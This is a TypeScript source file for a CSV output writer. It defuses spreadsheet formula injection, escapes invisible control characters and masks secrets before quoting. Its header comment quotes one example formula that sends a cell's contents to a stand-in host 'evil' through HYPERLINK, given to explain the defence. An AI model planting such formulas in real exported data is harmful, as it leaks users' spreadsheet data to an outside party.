// CSV as RFC 4180 has it: a header row, fields joined by commas, a field quoted when it holds a comma, a
// double quote, CR or LF (the quote doubled inside), and CRLF after every row, the RFC's line end (every CSV
// reader accepts it; `tr -d '\r'` turns it into LF). Values are written as formatCell gives them: numbers as
// they are, null and missing as empty fields, nested objects as compact JSON.
//
// Streaming: the header is written with the first page, from the union of that page's keys. The header
// cannot change afterwards, so keys that only later pages bring are left out of the rows, and the writer
// reports them (the command warns once on stderr and suggests -o ndjson, which keeps every key).
//
// CSV is opened in spreadsheets, where a cell starting with `=`, `+`, `-` or `@` (or a tab or CR, which some
// strip first) is a formula: `=HYPERLINK("http://evil/?"&A1,"click")` from an event field would run in the
// admin's spreadsheet. Such a text cell gets a leading `'` (OWASP's advice); numbers, and text that is a
// plain decimal number (`-5`, `+3.2e4`), are left alone. Control and invisible format characters in a cell
// (but a tab or line break, which a quoted cell holds) are written as `\u` and the code point, so piped CSV
// carries no escape sequence either. `--csv-raw` writes every cell exactly as received (records-writer.ts).
import { formatCell, pageColumns, type RecordWriter, type ReportRecord } from './records.js';
import { NO_SECRETS, type SecretMask } from '../core/secrets.js';

export const CSV_LINE_END = '\r\n';

/** Starts that make a spreadsheet read a cell as a formula. */
const FORMULA_START = /^[=+\-@\t\r]/;
/** Text that is a number as written: left as it is, it is a number in the spreadsheet too, not a formula. */
const DECIMAL = /^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/;
/** C0 but tab, LF and CR; DEL; C1; the invisible format characters; lone surrogates. */
const UNSEEN = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\p{Cf}\p{Cs}\u2028\u2029]/gu;

/** A text cell made safe to open in a spreadsheet and to print (see the header). */
export function safeCsvText(text: string): string {
  const shown = text.replace(UNSEEN, (char) => {
    const code = char.codePointAt(0)!;
    return code > 0xffff ? `\\u{${code.toString(16)}}` : `\\u${code.toString(16).padStart(4, '0')}`;
  });
  return FORMULA_START.test(shown) && !DECIMAL.test(shown) ? `'${shown}` : shown;
}

/** One field, quoted when it must be. */
export function csvField(text: string): string {
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** One row with its line end. */
export function csvRow(fields: readonly string[]): string {
  return fields.map(csvField).join(',') + CSV_LINE_END;
}

export class CsvWriter implements RecordWriter {
  private columns: string[] | undefined;
  private readonly columnsOf: (records: readonly ReportRecord[]) => string[];

  /**
   * @param onNewColumns called with the keys a later page brought that the header lacks, once per key.
   * @param cellText a text cell as written: defused (safeCsvText, the default), or as received (`--csv-raw`).
   * @param mask the run's known tokens, masked out of every cell before it is quoted.
   */
  constructor(
    onNewColumns: (keys: string[]) => void = () => {},
    private readonly cellText: (text: string) => string = safeCsvText,
    private readonly mask: SecretMask = NO_SECRETS,
  ) {
    this.columnsOf = pageColumns(onNewColumns);
  }

  page(records: readonly ReportRecord[]): string {
    if (records.length === 0) return '';
    const keys = this.columnsOf(records);
    const rows: string[][] = [];
    if (this.columns === undefined) {
      this.columns = keys;
      rows.push(keys.map(this.cellText));
    }
    const columns = this.columns;
    // Numbers are written as they are: only text can be a formula.
    const cell = (value: unknown): string => (typeof value === 'string' || (typeof value === 'object' && value !== null) ? this.cellText(formatCell(value)) : formatCell(value));
    for (const record of records) rows.push(columns.map((column) => cell(record[column])));
    // Masked before quoting: a quoted cell doubles each `"`, so a token holding one is no longer in the text
    // that stdout's mask looks through.
    return this.mask.maskRows(rows).map(csvRow).join('');
  }

  end(): string {
    return '';
  }
}
